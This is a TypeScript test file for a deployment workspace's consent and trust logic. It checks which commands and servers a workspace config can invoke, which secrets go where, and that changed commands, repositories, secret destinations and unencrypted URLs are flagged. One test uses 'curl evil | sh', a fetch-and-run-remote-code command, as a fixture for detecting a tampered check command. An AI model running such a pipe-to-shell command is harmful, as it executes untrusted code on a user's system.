import { type Powers, powersAdded, powersOf, shownPowers, variableFor } from '@core/trust'
import { isSame } from '@core/util/same'
import { parseWorkspace } from '@core/workspace'
import { describe, expect, it } from 'vitest'

const FREIGHT = { service: 'freight', url: 'https://freight.example.com', app: 'site' }
const LOCAL = { service: 'local', build: 'make', ship: './ship {environment}' }

/** What a workspace of one app can do. */
const powers = (app: object = {}, rest: object = {}): Powers => powersWith([app], rest)
/** What one of several can. */
const many = (...apps: readonly object[]): Powers => powersWith(apps, {})

function powersWith(apps: readonly object[], rest: object): Powers {
  const parsed = parseWorkspace(
    JSON.stringify({
      version: 1,
      apps: apps.map((app) => ({
        name: 'site',
        source: { service: 'local', repository: '/srv/site', branch: 'main' },
        ci: [{ service: 'local', check: 'npm test' }],
        deploy: LOCAL,
        environments: [{ name: 'production' }],
        ...app,
      })),
      ...rest,
    }),
  )
  if (!parsed.ok) throw new Error(parsed.errors[0]?.sentence)
  return powersOf(parsed.workspace)
}

describe('What consent is asked for', () => {
  it('is every command that a workspace can have run, and where', () => {
    const where = '/srv/site'
    expect(powers().commands).toEqual([
      { app: 'site', what: 'check', command: 'npm test', where: '/srv/site, branch main' },
      { app: 'site', what: 'build', command: 'make', where },
      { app: 'site', what: 'ship', command: './ship {environment}', where },
    ])
  })

  it('is where a repository has its submodules from', () => {
    const source = { service: 'local', repository: '/srv/site', branch: 'main', submodules: true }
    expect(powers({ source }).commands[0]).toEqual({
      app: 'site',
      what: 'fetch',
      command: 'the submodules that .gitmodules names',
      where: '/srv/site',
    })
  })

  it('is a workflow that is started in the person’s name, with what it is given', () => {
    const source = { service: 'github', repository: 'acme/site', branch: 'main' }
    const deploy = { service: 'github', workflow: 'deploy.yml', inputs: { to: '{environment}' } }
    expect(powers({ source, ci: [], deploy }).commands).toEqual([
      { app: 'site', what: 'workflow', command: 'deploy.yml to={environment}', where: 'acme/site' },
    ])
  })

  it('is every server that is asked, each once, with whose secret it is told', () => {
    const errors = { service: 'sentry', organization: 'acme', project: 'site' }
    const incidents = [{ service: 'statuspage', url: 'https://status.example.com' }]
    expect(powers({ deploy: FREIGHT, errors }, { incidents }).servers).toEqual([
      { url: 'https://freight.example.com', account: 'freight', byVariable: true },
      { url: 'https://sentry.io', account: 'sentry' },
      { url: 'https://status.example.com', account: null },
    ])
  })

  it('is whose commits a check runs on unasked', () => {
    const source = { service: 'local', repository: '/srv/site', branch: 'somebody/else' }
    expect(shownPowers(powers({ source }), powers()).commands[0]).toMatchObject({
      what: 'check',
      where: '/srv/site, branch somebody/else',
      standing: 'changed',
    })
  })

  it('is not asked for again for what runs nothing and tells nobody anything', () => {
    expect(powers({ risk: { maxCommits: 3 }, environments: [{ name: 'staging' }] })).toEqual(powers())
  })
})

describe('What changed since it was trusted', () => {
  it('is marked, with what stood in its place', () => {
    const now = powers({ ci: [{ service: 'local', check: 'curl evil | sh' }], deploy: FREIGHT })
    const { commands, servers } = shownPowers(now, powers())
    expect(commands).toMatchObject([{ what: 'check', standing: 'changed', was: 'npm test' }])
    expect(servers).toMatchObject([{ standing: 'new', isUnencrypted: false }])
  })

  it('is marked too where only the repository is another one', () => {
    const source = { service: 'local', repository: '/tmp/elsewhere', branch: 'main' }
    const standings = shownPowers(powers({ source }), powers()).commands.map(({ standing }) => standing)
    expect(standings).toEqual(['changed', 'changed', 'changed'])
  })

  it('is marked where the secret of a variable goes to another server than before, though both were known', () => {
    const at = (name: string, url: string) => ({ name, deploy: { ...FREIGHT, url } })
    const [one, two] = [at('one', 'https://one.example.com'), at('two', 'https://two.example.com')]
    const both = many(one, two)
    expect(both.servers.map(variableFor)).toEqual(['BINNACLE_FREIGHT_KEY', null])
    const later = many(two)
    expect(isSame(later, { ...both, servers: both.servers.slice(1) })).toBe(false)
    expect(shownPowers(later, both).servers).toMatchObject([
      { url: 'https://two.example.com', byVariable: true, standing: 'changed' },
    ])
    expect(powersAdded(later, both).servers).toMatchObject([{ url: 'https://two.example.com' }])
    expect(powersAdded(both, both).servers).toEqual([])
  })

  it('is the public server’s secret, where one is named, and no other server’s', () => {
    const github = (name: string, url?: string) => ({
      name,
      source: { service: 'github', repository: 'acme/site', branch: 'main', ...(url && { url }) },
      ci: [],
      deploy: FREIGHT,
    })
    const { servers } = many(github('own', 'https://github.example.com/api/v3'), github('public'))
    const own = servers.filter(({ account }) => account === 'github')
    expect(own.map((server) => [server.url, variableFor(server)])).toEqual([
      ['https://github.example.com/api/v3', null],
      ['https://api.github.com', 'BINNACLE_GITHUB_TOKEN'],
    ])
  })

  it.each([
    ['http://freight.example.com', true],
    ['https://freight.example.com', false],
    ['http://127.0.0.1:5000', false],
    ['http://localhost:5000', false],
  ])('tells whether what goes to %s can be read on its way', (url, isUnencrypted) => {
    expect(shownPowers(powers({ deploy: { ...FREIGHT, url } }), null).servers).toMatchObject([
      { isUnencrypted },
    ])
  })
})
